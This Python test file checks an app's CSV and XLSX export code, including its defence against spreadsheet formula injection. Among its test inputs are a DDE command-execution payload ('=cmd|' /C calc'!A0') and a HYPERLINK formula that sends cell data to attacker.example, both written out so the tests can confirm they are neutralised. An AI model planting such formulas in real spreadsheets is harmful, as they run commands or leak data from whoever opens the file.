"""Unit tests for the auditor exports: spreadsheet safety, ISO dates, CSV and XLSX output."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from app.reports.exports import csv_lines, iso, neutralise, sheet_title, xlsx_bytes

# Moodle's encoding test string: markup, entities, quotes, backslashes and a CJK character.
ENCODING = "< > & &lt; &gt; &amp; ' \\' 碁 \\ \\\\"


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


# neutralise


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_dangerous_first_character(text):
    assert neutralise(text) == "'" + text


def test_neutralise_looks_past_leading_spaces():
    assert neutralise('  =HYPERLINK("http://x")') == '\'  =HYPERLINK("http://x")'


@pytest.mark.parametrize("text", ["Alice Smith", "a=b", "1-2", "", "'quoted", "x@example.org"])
def test_neutralise_leaves_safe_text(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [0, 42, -5, -2.5, 3.25, True, False])
def test_neutralise_leaves_numbers_and_booleans(value):
    result = neutralise(value)
    assert result == value
    assert type(result) is type(value)


def test_neutralise_leaves_dates_and_blanks_none():
    day = date(2026, 11, 29)
    moment = datetime(2026, 11, 29, 13, 5, tzinfo=UTC)
    assert neutralise(day) is day
    assert neutralise(moment) is moment
    assert neutralise(None) == ""


# iso


def test_iso_date():
    assert iso(date(2026, 11, 29)) == "2026-11-29"


def test_iso_utc_datetime():
    assert iso(datetime(2026, 11, 29, 13, 5, tzinfo=UTC)) == "2026-11-29T13:05:00Z"


def test_iso_bst_datetime_converts_to_utc():
    summer = datetime(2026, 7, 1, 9, 30, tzinfo=ZoneInfo("Europe/London"))
    assert iso(summer) == "2026-07-01T08:30:00Z"


def test_iso_refuses_naive_datetime():
    with pytest.raises(ValueError, match="timezone-aware"):
        iso(datetime(2026, 11, 29, 13, 5))


@pytest.mark.parametrize("value", ["text", 7, -1.5, True, None])
def test_iso_leaves_other_values(value):
    assert iso(value) is value


# csv_lines


def test_csv_starts_with_bom_and_header():
    pieces = list(csv_lines(["Name", "Module"], []))
    assert pieces == ["\ufeffName,Module\r\n"]


def test_csv_one_piece_per_row_with_crlf():
    pieces = list(csv_lines(["A"], [["x"], ["y"]]))
    assert pieces[1:] == ["x\r\n", "y\r\n"]


def test_csv_quotes_commas_quotes_and_newlines():
    row = ["Smith, Alice", 'She said "hi"', "line one\nline two", "plain"]
    text = "".join(csv_lines(["a", "b", "c", "d"], [row]))
    assert '"Smith, Alice","She said ""hi""","line one\nline two",plain\r\n' in text
    assert read_csv(text)[1] == row


def test_csv_encoding_string_survives():
    text = "".join(csv_lines(["Name"], [[ENCODING]]))
    assert read_csv(text) == [["Name"], [ENCODING]]


def test_csv_values_dates_and_blanks():
    moment = datetime(2026, 7, 1, 9, 30, tzinfo=ZoneInfo("Europe/London"))
    row = [-5, 2.5, True, date(2026, 11, 29), moment, None]
    text = "".join(csv_lines(list("abcdef"), [row]))
    assert read_csv(text)[1] == ["-5", "2.5", "True", "2026-11-29", "2026-07-01T08:30:00Z", ""]


def test_csv_neutralises_formula_cells_and_headers():
    text = "".join(csv_lines(["=Header"], [["=cmd|' /C calc'!A0"], ["@SUM(1)"], ["-1"]]))
    rows = read_csv(text)
    assert rows == [["'=Header"], ["'=cmd|' /C calc'!A0"], ["'@SUM(1)"], ["'-1"]]


def test_csv_is_a_lazy_generator():
    def endless() -> Iterator[list[int]]:
        yield from ([n] for n in itertools.count())

    pieces = list(itertools.islice(csv_lines(["n"], endless()), 4))
    assert pieces == ["\ufeffn\r\n", "0\r\n", "1\r\n", "2\r\n"]


def test_csv_streams_200000_rows():
    rows = ([n, f"Person {n}", date(2026, 1, 1)] for n in range(200_000))
    count = sum(1 for _ in csv_lines(["n", "name", "due"], rows))
    assert count == 200_001


# xlsx_bytes


def test_xlsx_sheet_names_header_and_values():
    moment = datetime(2026, 7, 1, 9, 30, tzinfo=ZoneInfo("Europe/London"))
    rows = [["Alice", -5, 2.5, True, date(2026, 11, 29), moment, None]]
    headers = ["Name", "Score", "Ratio", "Passed", "Due", "Done at", "Note"]
    book = load(xlsx_bytes([("Compliance", headers, rows)]))
    assert book.sheetnames == ["Compliance"]
    sheet = book["Compliance"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(headers)
    assert values[1] == ("Alice", -5, 2.5, True, "2026-11-29", "2026-07-01T08:30:00Z", None)
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"


def test_xlsx_dates_are_iso_text():
    book = load(xlsx_bytes([("S", ["Due"], [[date(2026, 11, 29)]])]))
    cell = book.active["A2"]
    assert cell.value == "2026-11-29"
    assert cell.data_type == "s"


def test_xlsx_formula_like_text_is_stored_as_text():
    dangerous = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", " =1"]
    book = load(xlsx_bytes([("S", ["=Header"], [[text] for text in dangerous])]))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    # XML parsing turns a bare carriage return into a line feed; the quote is what matters.
    expected = ["'=Header"] + ["'" + text.replace("\r", "\n") for text in dangerous]
    assert [cell.value for cell in cells] == expected


def test_xlsx_encoding_string_survives():
    book = load(xlsx_bytes([("S", ["Name"], [[ENCODING]])]))
    assert book.active["A2"].value == ENCODING


def test_xlsx_two_sheets():
    data = xlsx_bytes(
        [
            ("Compliance", ["Name", "Status"], [["Alice", "Complete"]]),
            ("Matrix", ["Name", "Module 1"], [["Bob", date(2026, 1, 2)]]),
        ]
    )
    book = load(data)
    assert book.sheetnames == ["Compliance", "Matrix"]
    assert book["Compliance"]["B2"].value == "Complete"
    assert book["Matrix"]["B2"].value == "2026-01-02"
    assert all(cell.font.bold for cell in book["Matrix"][1])


def test_xlsx_workbook_properties():
    book = load(xlsx_bytes([("S", ["A"], [])]))
    assert book.properties.title == "Online conduct training"
    assert book.properties.creator == "Online conduct training"


def test_xlsx_sheet_titles_cleaned_and_truncated():
    long_title = "Compliance [2026]: a/b\\c*d?e and a lot more words"
    book = load(xlsx_bytes([(long_title, ["A"], [])]))
    (title,) = book.sheetnames
    assert title == "Compliance 2026 abcde and a lot"
    assert len(title) == 31


def test_xlsx_drops_control_characters_xml_cannot_hold():
    book = load(xlsx_bytes([("S", ["A"], [["bell\x07 name"]])]))
    assert book.active["A2"].value == "bell name"


def test_a_control_character_in_front_does_not_hide_a_formula():
    """XML cannot hold \x01, so the writer drops it: what is left must still be quoted."""
    planted = ['\x01=HYPERLINK("http://attacker.example/?x="&C2)', "\x02\x03@SUM(A1)", "\x1b+1"]
    book = load(xlsx_bytes([("S", ["\x01=Header"], [[text] for text in planted])]))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert [cell.value for cell in cells] == [
        "'=Header",
        '\'=HYPERLINK("http://attacker.example/?x="&C2)',
        "'@SUM(A1)",
        "'+1",
    ]
    # In a CSV file the character stays, and the cell is quoted all the same.
    assert all(str(neutralise(text)).startswith("'") for text in planted)


def test_xlsx_needs_a_sheet():
    with pytest.raises(ValueError, match="at least one sheet"):
        xlsx_bytes([])


def test_sheet_title_unique_and_never_empty():
    taken: set[str] = set()
    assert sheet_title("Matrix", taken) == "Matrix"
    assert sheet_title("matrix", taken) == "matrix (2)"
    assert sheet_title("[]", taken) == "Sheet"
    assert sheet_title("x" * 40, taken) == "x" * 31
    assert sheet_title("x" * 40, taken) == "x" * 27 + " (2)"
